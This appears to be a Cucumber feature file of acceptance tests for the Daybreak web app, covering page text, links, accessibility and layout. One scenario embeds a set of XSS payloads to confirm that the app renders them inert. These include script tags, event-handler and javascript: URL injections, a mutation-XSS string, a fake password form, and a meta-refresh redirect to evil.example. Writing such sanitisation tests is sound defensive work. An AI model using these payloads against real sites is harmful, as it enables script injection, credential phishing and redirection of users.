Feature: A page of text

  @CAT-24
  Scenario: A page shows what its description says
    When they open the page "About Daybreak"
    Then the heading is "About Daybreak"
    And the page has the heading "What we believe"
    And the page says "Showing up beats going hard."
    And the page does not say "**"
    And the tab is titled "About Daybreak · Daybreak"

  @CAT-24
  Scenario: A link within the app stays in it
    When they open the page "About Daybreak"
    And they press "365 series"
    Then they are on the address "/365"
    And the page does not say "Nobody needs to be shouted at."
    When they go back
    Then the heading is "About Daybreak"
    And the platform was asked for the settings file 1 time

  @CAT-24 @browser
  Scenario: What members wrote does nothing but stand there
    When they open the page "Guest Book"
    Then the page has the heading "Best first lines"
    And the page says "Bold of you to ask."
    And the page says "<script> between backticks is only text."
    And the page does not say "Sign in again"
    And "Here" cannot be pressed
    And "There" cannot be pressed
    And the tab is titled "Guest Book · Daybreak"

  @CAT-24 @API-07 @browser
  Scenario: Nothing that a text contains runs a script, sends a form or leads away
    Given the description of the page "About Daybreak" is:
      """
      This much is harmless.

      <script>document.title = 'taken over'</script>
      <img src=x onerror="document.title = 'taken over'">
      <svg/onload="document.title = 'taken over'">
      <svg><script href="data:text/javascript,document.title='taken over'"/></svg>

      <a href="javascript:document.title='taken over'">press</a> <a href="java
      script:document.title='taken over'">press</a> [press](javascript:alert(1)) ![picture](x" onerror="alert(1))

      > *A member* <script>document.title = 'taken over'</script>

      <iframe srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
      <form action="https://evil.example"><input name=password><button>Sign in</button></form>
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
      <object data="data:text/html,<script>alert(1)</script>"></object>
      <div style="position:fixed;inset:0" onmouseover="document.title = 'taken over'">x</div>
      <template><script>document.title = 'taken over'</script></template>
      <math><mtext><style><img src=x onerror="document.title = 'taken over'"></style></mtext></math>
      """
    When they open the page "About Daybreak"
    Then the page says "This much is harmless."
    And the page contains no active markup
    And the tab is titled "About Daybreak · Daybreak"

  @CAT-24 @browser
  Scenario: Links that do no harm are there
    When they open the page "Guest Book"
    Then the link "Lisbon" leads outside to "https://en.wikipedia.org/wiki/Lisbon"
    And the link "The 365" leads to the address "/365"
    And the link "Our old page" leads outside to "https://daybreak.example/"
    When they press "Our old page"
    Then the tab is titled "Guest Book · Daybreak"

  @CAT-24 @SHL-11 @browser
  Scenario Outline: A scan of <page> in a window <width> pixels wide
    Given a window of <width> by 800 pixels
    When they open <page>
    Then the page has the heading "<heading>"
    And the page has no accessibility violations
    And nothing runs off the side of the window

    Examples:
      | page                      | heading          | width |
      | the page "Guest Book"     | Best first lines | 320   |
      | the page "About Daybreak" | We like mornings | 1280  |

  @CAT-24 @browser
  Scenario: A heading that only repeats the title is left out
    When they open the page "How to Start"
    Then the page has the heading "When it hurts"
    And the heading is "How to Start"
    And the page does not say "How to start"
